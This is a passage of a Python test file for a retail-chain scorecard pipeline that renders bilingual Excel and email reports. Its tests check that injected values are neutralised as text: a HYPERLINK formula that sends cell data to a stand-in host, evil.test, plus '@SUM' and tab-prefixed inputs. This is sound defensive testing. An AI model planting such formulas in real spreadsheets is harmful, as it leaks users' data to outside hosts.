    rows = {(r[0].value, r[3].value): r for r in ws.iter_rows(min_row=2)}
    d1 = rows["CRF", "D1"]
    col = {h: i for i, h in enumerate(header)}
    amount = d1[col["可申诉金额"]]
    assert amount.data_type == "n" and amount.value == 5000 and amount.number_format == "#,##0.00"
    deadline = d1[col["申诉截止日"]]
    assert deadline.is_date and deadline.value == datetime(2026, 11, 20)
    assert d1[col["剩余天数"]].value == 17 and d1[col["剩余天数"]].data_type == "n"
    assert d1[col["核对结果"]].value == "无合同依据"  # status in the owner's language
    assert d1[col["依据"]].value == "2026 合同年度 未约定 dm_fee 费用项目；实扣 5000.00"
    evil = rows["RTM", "D9"][col["扣款项目"]]
    assert evil.value == '=HYPERLINK("http://evil.test/?x="&A1,"促销补差")'
    assert evil.data_type == "s" and evil.quotePrefix  # text, and stays text when edited
    dup = rows["RTM", "D9"][col["依据"]].value
    assert dup == "同类型、同参考号、同期间已在对账单 S0 第 D8 行扣过"
    review = {r[3].value: r for r in wb["待核对扣款"].iter_rows(min_row=2)}
    assert review["D10"][5].value == "@SUM(1+1)" and review["D10"][5].quotePrefix
    assert review["D10"][7].value == "\t-1" and review["D10"][7].data_type == "s"
    for sheet in wb.worksheets:  # no formula anywhere
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    oos = wb["缺货"]
    barcode = oos.cell(row=2, column=5)
    assert barcode.value == GTIN and barcode.data_type == "s"  # text: leading digits kept
    overdue = wb["逾期发票"]
    assert [c.value for c in overdue[1]][-1] == "账龄"
    assert overdue.cell(row=2, column=4).is_date
    # English workbook: English headers and status names
    js = render({c.owner.code: c for c in build_scorecards(engine, "month", OCT, AS_OF)}["JS"])
    wb_en = load_workbook(io.BytesIO(next(iter(js.attachments.values()))))
    ws_en = wb_en["Deductions to dispute"]
    assert ws_en.cell(row=1, column=1).value == "chain"
    assert ws_en.cell(row=2, column=14).value == "rebate over-taken"


def test_missing_data_renders(engine):
    """An empty warehouse (master data only): dashes, no crash, and
    each section says there is nothing or no data."""
    seed_ref(engine)
    cards = {c.owner.code: c for c in build_scorecards(engine, "month", OCT, AS_OF)}
    assert sorted(cards) == ["JS", "LN"]
    ln, js = cards["LN"], cards["JS"]
    for card in (ln, js):
        mail = render(card)
        assert "—" in mail.text
        assert mail.attachments == {}
        assert all(png.startswith(b"\x89PNG") for png in mail.inline_images.values())
    assert "暂无数据" in render(ln).text
    text = render(js).text
    assert "No figures for October 2026 yet" in text
    assert "No file loaded for this chain yet." in text
    assert "No sale below the floor price." in text and "No evaluation for this chain yet." in text
    assert "Nothing to dispute." in text and "No invoice is overdue." in text
    assert "Nothing needs action now." in text


def test_rejects_a_period_that_does_not_start_on_its_first_day(engine):
    with pytest.raises(ValueError, match="1st of a month"):
        build_scorecards(engine, "month", date(2026, 10, 2), AS_OF)
    with pytest.raises(ValueError, match="unknown period kind"):
        build_scorecards(engine, "quarter", OCT, AS_OF)


def test_catalogue_is_complete():
    from ka_pipeline.scorecard import strings

    catalogue = strings()
    assert set(catalogue["en"]) - set(catalogue["zh-CN"]) == set()


def test_compiled_templates_cached_render_the_same(cards, tmp_path, monkeypatch):
    """The Jinja bytecode cache (render._bytecode_cache): a render from cached compiled
    templates equals one compiled from source, and a cache that cannot be written only
    costs the compile."""
    import importlib

    module = importlib.import_module("ka_pipeline.scorecard.render")
    fresh = module.render(cards["LN"])
    folder = tmp_path / "jinja"
    folder.mkdir()
    cache = module._BytecodeCache(directory=str(folder))
    for attempt in ("writes the cache", "reads it"):
        monkeypatch.setattr(module, "_bytecode_cache", lambda: cache)
        module._env.cache_clear()
        mail = module.render(cards["LN"])
        assert (mail.subject, mail.html, mail.text) == (fresh.subject, fresh.html, fresh.text)
        assert len(list(folder.glob("*.cache"))) == 2, attempt  # the HTML and text templates
    (tmp_path / "gone").mkdir()
    broken = module._BytecodeCache(directory=str(tmp_path / "gone"))
    (tmp_path / "gone").rmdir()  # every write fails
    monkeypatch.setattr(module, "_bytecode_cache", lambda: broken)
    module._env.cache_clear()
    assert module.render(cards["LN"]).html == fresh.html
    module._env.cache_clear()
